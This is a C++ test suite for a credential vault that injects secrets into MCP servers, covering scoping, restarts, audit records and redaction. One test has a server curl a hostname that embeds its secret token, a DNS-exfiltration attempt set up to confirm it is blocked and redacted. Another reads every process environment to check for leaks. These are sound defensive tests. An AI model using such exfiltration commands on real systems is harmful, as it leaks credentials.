// What a server gets, and what happens to it when that changes.
#include "vault/vault_stage.hpp"

#include <catch2/catch_test_macros.hpp>
#include <catch2/generators/catch_generators_range.hpp>

#include <csignal>

using test::has;
using test::Live;
using test::VaultStage;

namespace {

constexpr auto tells = "echo \"has <$T>\"; exec cat";

} // namespace

TEST_CASE("entries stand alone, inside a text, and in files that are the server's alone") {
    VaultStage const stage(GENERATE(from_range(test::settings())));
    CAPTURE(stage.setting());
    stage.server("a",
                 "echo \"$T|$URL\"; stat -c '%a %U' \"$F/gcp.json\"; cat \"$F/gcp.json\"; "
                 "(echo x > \"$F/gcp.json\") 2>/dev/null || echo unchanged; ls -A \"$F\" | wc -l",
                 "[auth]\nT = \"vault:token\"\nURL = \"postgres://u:${vault:pw}@db/${vault:pw}\"\n[auth.files]\n"
                 "\"gcp.json\" = \"vault:gcp\"\n[env]\nset = { F = \"${auth.files}\" }\n");
    REQUIRE(stage.keep("token", "tok-0123456789") == 0);
    REQUIRE(stage.keep("pw", "pass-word") == 0);
    REQUIRE(stage.keep("gcp", std::string("{\n \"key\": \"x\0y\"\n}\n", 19)) == 0);
    auto const run = stage.run_server("a");
    INFO(run.err);
    CHECK(has(run.out, "tok-0123456789|postgres://u:pass-word@db/pass-word\n400 "));
    CHECK(run.out.find(std::string("{\n \"key\": \"x\0y\"\n}\n", 19)) != std::string::npos);
    CHECK(has(run.out, "unchanged\n1\n"));
}

TEST_CASE("a command in the server's place gets the same") {
    VaultStage const stage(test::people().back());
    stage.server("a", "true", "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("token", "tok-0123456789") == 0);
    CHECK(stage.run_server("a", {"--", "printenv", "T"}).out == "tok-0123456789\n");
    CHECK(stage.run_server("a", {"--read", "/etc", "--", "true"}).status == 64);
}

TEST_CASE("a tool of a stateless server gets only the credentials it names") {
    VaultStage const stage(test::people().back());
    static_cast<void>(stage.write("home/.pfar/mcp/a.toml",
                                  "name = \"a\"\nstateful = false\n[server]\ncommand = \"sh\"\nargs = [\"-c\", \"echo "
                                  "$A,$B\"]\n[auth]\nA = \"vault:a\"\nB = \"vault:b\"\n[tools.x.access]\nauth = "
                                  "[\"B\"]\n"));
    REQUIRE(stage.keep("a", "aaaaaaaa") == 0);
    REQUIRE(stage.keep("b", "bbbbbbbb") == 0);
    CHECK(stage.run_server("a").out == "aaaaaaaa,bbbbbbbb\n");
    CHECK(stage.run_server("a", {"--tool", "x"}).out == ",bbbbbbbb\n");
}

TEST_CASE("a changed credential starts its server anew, and others not") {
    VaultStage const stage(GENERATE(from_range(test::settings())));
    CAPTURE(stage.setting());
    stage.server("a", tells, "[auth]\nT = \"vault:token\"\n");
    stage.server("b", tells, "[auth]\nT = \"vault:other\"\n");
    REQUIRE(stage.keep("token", "first-value") == 0);
    REQUIRE(stage.keep("other", "other-value") == 0);
    Live a(stage, stage.exec_server("a")), b(stage, stage.exec_server("b"));
    REQUIRE(a.says("has <first-value>"));
    REQUIRE(b.says("has <other-value>"));
    a.forget(), b.forget();
    CHECK(stage.keep("token", "second-value") == 0);
    CHECK(a.says("has <second-value>"));
    CHECK(has(a.heard(), "a credential of a has changed; it is started anew"));
    b.type("still here\n");
    CHECK(b.says("still here"));
    CHECK_FALSE(has(b.heard(), "has <"));
}

TEST_CASE("a server whose next start would fail goes on, and says why") {
    VaultStage const stage(test::people().back());
    stage.server("a", tells, "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("token", "first-value") == 0);
    Live a(stage, stage.exec_server("a"));
    REQUIRE(a.says("has <first-value>"));
    REQUIRE(stage.vault({"set", "token"}, std::string("with\0nul", 8)).status == 0);
    CHECK(a.says("a goes on with the credentials it has: a: what the vault has for T has a NUL byte in it"));
    static_cast<void>(stage.write("home/.pfar/mcp/a.toml", "name = 1\n"));
    a.forget();
    REQUIRE(stage.keep("token", "second-value") == 0);
    CHECK(a.says("has mistakes; pfar check a tells which"));
    a.type("still here\n");
    CHECK(a.says("still here"));
    stage.server("a", tells, "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("token", "third-value") == 0);
    CHECK(a.says("has <third-value>"));
}

TEST_CASE("one that ignores being asked to end is made to, and a person's signal beats the new start") {
    VaultStage const stage(test::people().back());
    stage.server("a",
                 "trap '' TERM; trap 'echo interrupted; exit 3' INT; echo \"has <$T>\"; while :; do sleep 0.1; done",
                 "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("token", "first-value") == 0);
    Live a(stage, stage.exec_server("a"));
    REQUIRE(a.says("has <first-value>"));
    REQUIRE(stage.keep("token", "second-value") == 0);
    REQUIRE(a.says("has <second-value>"));
    REQUIRE(stage.keep("token", "third-value") == 0);
    a.signal(SIGINT);
    CHECK(a.end() == 3);
    CHECK_FALSE(has(a.heard(), "third-value"));
}

TEST_CASE("a new name and a directory made anew are heard too") {
    VaultStage const stage(test::people().back());
    stage.server("a", tells, "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("other", "other-value") == 0);
    Live a(stage, stage.exec_server("a", {"--wait"}));
    REQUIRE(a.says("waiting: a needs vault:token"));
    std::filesystem::remove_all(stage.pfar_home() / "run");
    REQUIRE(stage.vault({"rename", "other", "token"}).status == 0);
    CHECK(a.says("has <other-value>"));
}

TEST_CASE("without a record no credential is given") {
    VaultStage const stage(test::people().back());
    stage.server("a", tells, "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("token", "first-value") == 0);
    std::filesystem::remove_all(stage.pfar_home() / "audit");
    static_cast<void>(stage.write("home/.pfar/audit", "in the way"));
    auto const run = stage.run_server("a");
    CHECK(run.status != 0);
    CHECK(run.out.empty());
    CHECK(has(run.err, "audit"));
}

TEST_CASE("with --no-restart it goes on as it is") {
    VaultStage const stage(test::people().back());
    stage.server("a", tells, "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("token", "first-value") == 0);
    Live a(stage, stage.exec_server("a"));
    REQUIRE(a.says("has <first-value>"));
    auto const set = stage.vault({"set", "token", "--no-restart"}, "second-value");
    CHECK(has(set.out, "from the next start on"));
    a.type("still here\n");
    CHECK(a.says("still here"));
    CHECK_FALSE(has(a.heard(), "second-value"));
}

TEST_CASE("a server that waits for a credential is started when it is set") {
    VaultStage const stage(GENERATE(from_range(test::people())));
    stage.server("a", tells, "[auth]\nT = \"vault:token\"\nU = \"vault:user\"\n");
    Live a(stage, stage.exec_server("a", {"--wait"}));
    REQUIRE(a.says("waiting: a needs vault:token and vault:user"));
    CHECK(stage.keep("token", "first-value") == 0);
    CHECK(stage.keep("user", "some-user") == 0);
    CHECK(a.says("has <first-value>"));
}

TEST_CASE("what no variable can hold is told, with the place where it can be held") {
    VaultStage const stage(test::people().front());
    stage.server("a", "true", "[auth]\nT = \"vault:token\"\n");
    REQUIRE(stage.keep("token", std::string("with\0nul", 8)) == 0);
    auto const run = stage.run_server("a");
    CHECK(run.status == 78);
    CHECK(has(run.err, "[auth.files]"));
}

TEST_CASE("the store of variables is enough for a server, and is passed on in no other way") {
    VaultStage stage(test::people().back());
    stage.settings_file("[credentials]\nstore = \"vault-env\"\n");
    stage.environment = {"PFAR_SECRET_MY_TOKEN=tok-0123456789", "PFAR_SECRET_OTHER=canary-other"};
    stage.server("a", "env", "[auth]\nT = \"vault:my-token\"\n");
    auto const run = stage.run_server("a");
    CHECK(has(run.out, "T=tok-0123456789\n"));
    CHECK_FALSE(has(run.out, "PFAR_SECRET"));
    CHECK_FALSE(has(run.out, "canary"));
    CHECK_FALSE(has(stage.sh("env; cat /proc/*/environ").out, "canary"));
    CHECK(stage.vault({"set", "x"}, "12345678").status == 69);
    CHECK(has(stage.vault({"list"}).out, "other"));
    CHECK(stage.pfar({"exec", "--env", "PFAR_SECRET_OTHER", "--", "env"}).status == 64);
}

TEST_CASE("what a server says of its secret reaches no log, no record and no message") {
    VaultStage const stage(GENERATE(from_range(test::people())));
    static_cast<void>(stage.write("home/.pfar/mcp/a.toml",
                                  "name = \"a\"\nallowed_domains = [\"api.example.com\"]\n[server]\ncommand = "
                                  "\"sh\"\nargs = [\"-c\", 'curl -sS http://$T.example.com/ >/dev/null "
                                  "2>&1; true']\n[auth]\nT = \"vault:token\"\n"));
    REQUIRE(stage.keep("token", "canary0123456789") == 0);
    auto const run = stage.run_server("a");
    CHECK(has(run.err, "blocked [redacted:token].example.com"));
    CHECK(has(stage.audit(), "[redacted:token].example.com"));
    for (auto const& [file, content] : test::files_below(stage.pfar_home())) {
        CAPTURE(file);
        CHECK_FALSE(has(content, "canary"));
    }
}
